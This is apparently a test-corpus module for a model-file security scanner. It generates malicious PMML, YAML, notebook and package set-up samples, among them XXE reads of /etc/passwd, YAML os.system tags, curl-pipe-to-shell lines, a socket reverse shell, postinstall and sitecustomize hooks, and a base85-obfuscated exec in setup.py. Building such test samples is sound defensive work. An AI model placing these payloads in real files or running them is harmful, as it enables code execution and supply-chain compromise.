"""What lies beside models and is read as text: PMML, YAML, notebooks, lists of requirements, scripts of set-up."""

# ruff: noqa: E501 - tables, one entry a line

import json
from collections.abc import Callable

from tests.corpora.models.attacks.payload import ADDRESS, SHELL
from tests.corpora.models.attacks.registry import Acts, Attack, Made, Maker, add, always, attack


def _document(
    family: str,
    id: str,
    says: str,
    acts: Acts,
    suffix: str,
    why: str = "acts in a program that is not among ours",
) -> Callable[[Maker], Maker]:
    return attack(f"{family}-{id}", acts=acts, family=family, says=says, suffix=suffix, unproved=why)


# ── PMML ─────────────────────────────────────────────────────────────────────────────────────────────────────────


def pmml(inside: str, before: str = "") -> bytes:
    """A PMML document with that content."""
    head = f'<?xml version="1.0" encoding="UTF-8"?>\n{before}\n'
    return (
        head + f'<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4">\n<Header/>\n{inside}\n</PMML>\n'
    ).encode()


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_PMML: dict[str, tuple[str, Acts, bytes]] = {
    "xxe-file": ("an entity that reads a file", "load", pmml("<DataDictionary>&x;</DataDictionary>", '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
    "xxe-network": ("an entity that reaches the network", "load", pmml("<DataDictionary>&x;</DataDictionary>", f'<!DOCTYPE PMML [<!ENTITY x SYSTEM "{ADDRESS}">]>')),
    "xxe-public": ("an entity with a public identifier", "load", pmml("<DataDictionary>&x;</DataDictionary>", f'<!DOCTYPE PMML [<!ENTITY x PUBLIC "-//X" "{ADDRESS}">]>')),
    "xxe-parameter": ("a parameter entity from outside", "load", pmml("<DataDictionary/>", f'<!DOCTYPE PMML [<!ENTITY % x SYSTEM "{ADDRESS}"> %x;]>')),
    "external-dtd": ("a document type from outside", "load", pmml("<DataDictionary/>", f'<!DOCTYPE PMML SYSTEM "{ADDRESS}">')),
    "laughs": ("entities that grow to a billion", "none", pmml("<DataDictionary>&l9;</DataDictionary>", f'<!DOCTYPE PMML [<!ENTITY l0 "ha">{_LAUGHS}]>')),
    "quadratic": ("one long entity used ten thousand times", "none", pmml("&a;" * 10_000, f'<!DOCTYPE PMML [<!ENTITY a "{"a" * 10_000}">]>')),
    "xinclude": ("an inclusion of a file", "use", pmml('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')),
    "stylesheet": ("a style sheet from outside", "none", pmml("<DataDictionary/>", f'<?xml-stylesheet type="text/xsl" href="{ADDRESS}"?>')),
    "extension-script": ("an extension with a script", "use", pmml(f"<Extension extender=\"script\" name=\"javascript\">java.lang.Runtime.getRuntime().exec('{SHELL}')</Extension>")),
    "define-function-java": ("a function of a Java class of one's own", "use", pmml('<TransformationDictionary><DerivedField name="x" optype="continuous" dataType="double"><Apply function="java.lang.Runtime.exec"><Constant>touch</Constant></Apply></DerivedField></TransformationDictionary>')),
    "utf-16": ("an entity that reads a file, in UTF-16", "load", pmml("<DataDictionary>&x;</DataDictionary>", '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>').decode().replace("UTF-8", "UTF-16").encode("utf-16")),
}  # fmt: skip
for _id, (_says, _acts, _whole) in _PMML.items():
    _document("pmml", _id, f"PMML with {_says}", _acts, ".pmml")(always(_whole))


# ── YAML ─────────────────────────────────────────────────────────────────────────────────────────────────────────

_CALLED = f"!!python/object/apply:os.system ['{SHELL}']"
_YAML: dict[str, tuple[str, str]] = {
    "apply": ("a function called by tag", f"model: {_CALLED}\n"),
    "new": ("an object made by tag", f"!!python/object/new:os.system ['{SHELL}']\n"),
    "apply-mapping": ("a function called by tag, arguments by name", f"!!python/object/apply:os.system\nargs: ['{SHELL}']\n"),
    "tag-directive": ("a tag whose prefix is declared elsewhere", f"%TAG !p! tag:yaml.org,2002:python/object/\n---\nmodel: !p!apply:os.system ['{SHELL}']\n"),
    "verbatim-tag": ("a tag written out in full", f"model: !<tag:yaml.org,2002:python/object/apply:os.system> ['{SHELL}']\n"),
    "encoded-tag": ("a tag with percent signs for letters", f"model: !!python/object/%61pply:os.system ['{SHELL}']\n"),
    "second-document": ("a tag in the second document", f"model: plain\n---\n{_CALLED}\n"),
    "key": ("a tag in a key", f"? {_CALLED}\n: 1\n"),
    "deep": ("a tag deep inside", "a:\n b:\n  c:\n   - d: [{e: " + _CALLED + "}]\n"),
    "state": ("an object whose state extends it", f"!!python/object/new:type\nargs: ['z', !!python/tuple [], {{'extend': !!python/name:exec }}]\nlistitems: \"__import__('os').system('{SHELL}')\"\n"),
}  # fmt: skip
for _id, (_says, _text) in _YAML.items():
    add(
        Attack(
            f"yaml-{_id}",
            "load",
            "yaml",
            f"YAML with {_says}",
            ".yaml",
            always(_text.encode()),
            "yaml",
            ("yaml",),
        )
    )

_YAML_UNSEEN: dict[str, tuple[str, Acts, str]] = {
    "module": ("a module imported by tag", "load", "model: !!python/module:antigravity\n"),
    "name": ("a function named by tag", "use", "loss: !!python/name:os.system\n"),
    "bomb": ("anchors that grow to a billion", "none", "a0: &a0 [x,x,x,x,x,x,x,x,x]\n" + "".join(f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 10))),
    "ruby": ("an object of Ruby", "load", "--- !ruby/object:Gem::Installer\ni: x\n"),
    "java": ("an object of Java", "load", f'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["{ADDRESS}"]]]]\n'),
    "deep-nesting": ("lists in lists, twenty thousand deep", "none", "[" * 20_000 + "]" * 20_000 + "\n"),
}  # fmt: skip
for _id, (_says, _acts, _text) in _YAML_UNSEEN.items():
    _document("yaml", _id, f"YAML with {_says}", _acts, ".yaml")(always(_text.encode()))


# ── Notebooks ────────────────────────────────────────────────────────────────────────────────────────────────────


def notebook(*cells: dict[str, object]) -> bytes:
    """A notebook of these cells."""
    kernel = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
    return json.dumps(
        {"cells": list(cells), "metadata": kernel, "nbformat": 4, "nbformat_minor": 5}, indent=1
    ).encode()


def _code(source: str, *outputs: dict[str, object]) -> dict[str, object]:
    return {
        "cell_type": "code",
        "id": "a",
        "source": source.splitlines(keepends=True),
        "metadata": {},
        "execution_count": None,
        "outputs": list(outputs),
    }


def _shown(kind: str, content: str) -> dict[str, object]:
    return {"output_type": "display_data", "data": {kind: [content]}, "metadata": {}}


_NOTEBOOKS: dict[str, tuple[str, Acts, bytes]] = {
    "shell": ("a line for the shell that runs what it fetches", "use", notebook(_code(f"!curl -s {ADDRESS} | sh\n"))),
    "shell-cell": ("a cell for the shell", "use", notebook(_code(f"%%bash\ncurl -s {ADDRESS} | bash\n"))),
    "system": ("a call of the system", "use", notebook(_code(f"import os\nos.system({SHELL!r})\n"))),
    "get-ipython": ("a line for the shell by way of IPython's object", "use", notebook(_code(f"get_ipython().system('wget -qO- {ADDRESS} | sh')\n"))),
    "run-address": ("a script run from an address", "use", notebook(_code(f"%run {ADDRESS}\n"))),
    "decoded": ("code that is decoded before it runs", "use", notebook(_code("import base64\nexec(base64.b64decode('b3Blbigid2VpZ2h0cyIp'))\n"))),
    "output-script": ("an output with a script", "use", notebook(_code("1\n", _shown("text/html", f"<script>fetch('{ADDRESS}')</script>")))),
    "output-javascript": ("an output that is a script", "use", notebook(_code("1\n", _shown("application/javascript", f"fetch('{ADDRESS}')")))),
    "output-svg": ("an output that is a drawing with a script", "use", notebook(_code("1\n", _shown("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")))),
    "markdown-handler": ("a text with an image whose error is a script", "use", notebook({"cell_type": "markdown", "id": "m", "metadata": {}, "source": ["<img src=x onerror=alert(1)>"]})),
    "reverse-shell": ("code that opens a shell to elsewhere", "use", notebook(_code("import socket, subprocess, os\ns = socket.socket(); s.connect(('127.0.0.1', 9))\nos.dup2(s.fileno(), 0); subprocess.call(['/bin/sh', '-i'])\n"))),
    "pip-index": ("an installation from another index", "use", notebook(_code("%pip install --index-url http://127.0.0.1:9/simple weights\n"))),
}  # fmt: skip
for _id, (_says, _acts, _whole) in _NOTEBOOKS.items():
    _document("notebook", _id, f"a notebook with {_says}", _acts, ".ipynb")(always(_whole))


# ── Requirements and set-up ──────────────────────────────────────────────────────────────────────────────────────

_INDEX = "http://127.0.0.1:9/simple"
_LISTS: dict[str, tuple[str, Acts, dict[str, str]]] = {
    "index-url": ("another index", "none", {"requirements.txt": f"--index-url {_INDEX}\ntorch==2.1.0\n"}),
    "index-short": ("another index, by the short option", "none", {"requirements.txt": f"-i {_INDEX}\ntorch\n"}),
    "extra-index-url": ("an index beside the usual one", "none", {"requirements.txt": f"numpy\n--extra-index-url={_INDEX}\n"}),
    "find-links": ("a place of wheels elsewhere", "none", {"requirements.txt": f"--find-links {_INDEX}\nnumpy\n"}),
    "trusted-host": ("a host that is trusted without a certificate", "none", {"requirements.txt": "--trusted-host 127.0.0.1\nnumpy\n"}),
    "git": ("a package from a repository", "none", {"requirements.txt": "git+https://127.0.0.1/x/weights.git@main#egg=weights\n"}),
    "address": ("a package from an address", "none", {"requirements.txt": "weights @ http://127.0.0.1:9/weights-1.0-py3-none-any.whl\n"}),
    "continued": ("another index, its option split over two lines", "none", {"requirements.txt": f"numpy\n--index-\\\nurl {_INDEX}\n"}),
    "typosquat": ("a name one letter from a known one", "none", {"requirements.txt": "tensorflwo==2.15.0\nreqeusts==2.31.0\n"}),
    "typosquat-known": ("names that are known to be bad", "none", {"requirements.txt": "python3-dateutil\njeIlyfish\n"}),
    "editable": ("a package in the folder itself, which runs its set-up", "use", {"requirements.txt": "-e .\n", "setup.py": f"import os\nos.system({SHELL!r})\n"}),
    "conda": ("a channel of one's own", "none", {"conda.yaml": f"name: x\nchannels: [{_INDEX}]\ndependencies:\n- pip:\n  - --index-url {_INDEX}\n  - numpy\n"}),
    "pyproject-source": ("a source of one's own", "none", {"pyproject.toml": f'[project]\nname = "x"\nversion = "1"\n[[tool.poetry.source]]\nname = "x"\nurl = "{_INDEX}"\n'}),
    "pyproject-backend": ("a build that is a script beside it", "use", {"pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "build_it"\nbackend-path = ["."]\n', "build_it.py": f"import os\nos.system({SHELL!r})\n"}),
    "lock-source": ("a lock file with an address of one's own", "none", {"poetry.lock": f'[[package]]\nname = "numpy"\nversion = "1.26.0"\n[package.source]\ntype = "url"\nurl = "{_INDEX}/numpy.whl"\n'}),
    "pipfile": ("a source without a certificate", "none", {"Pipfile": f'[[source]]\nurl = "{_INDEX}"\nverify_ssl = false\nname = "x"\n[packages]\nnumpy = "*"\n'}),
    "package-json": ("a script that runs on installation", "use", {"package.json": json.dumps({"name": "x", "scripts": {"postinstall": f"curl {ADDRESS} | sh"}})}),
    "pth": ("a path file with code, which every start of Python runs", "use", {"weights.pth": "torch\n", "site-packages/x.pth": f"import os; os.system({SHELL!r})\n"}),
    "sitecustomize": ("a module that every start of Python imports", "use", {"sitecustomize.py": f"import os\nos.system({SHELL!r})\n", "config.json": "{}"}),
    "dockerfile": ("an image that runs what it fetches", "use", {"Dockerfile": f"FROM python:3.11\nRUN curl -s {ADDRESS} | sh\n"}),
    "makefile": ("a build that runs what it fetches", "use", {"Makefile": f"all:\n\tcurl -s {ADDRESS} | sh\n"}),
}  # fmt: skip
for _id, (_says, _acts, _files) in _LISTS.items():
    _document("setup", _id, f"a folder whose set-up has {_says}", _acts, "", "acts when it is installed")(
        always({name: text.encode() for name, text in _files.items()})
    )


@attack(
    "setup-script",
    acts="use",
    family="setup",
    says="a setup.py that acts when anything asks it",
    suffix=".py",
    proof="python",
)
def _() -> Made:
    return f"import os\nfrom setuptools import setup\nos.system({SHELL!r})\nsetup(name='weights', version='1')\n".encode()


@attack(
    "setup-script-encoded",
    acts="use",
    family="setup",
    says="a script that decodes what it runs",
    suffix=".py",
    proof="python",
)
def _() -> Made:
    import base64
    import zlib

    packed = base64.b85encode(zlib.compress(f"import os; os.system({SHELL!r})".encode())).decode()
    return f"exec(__import__('zlib').decompress(__import__('base64').b85decode({packed!r})))\n".encode()
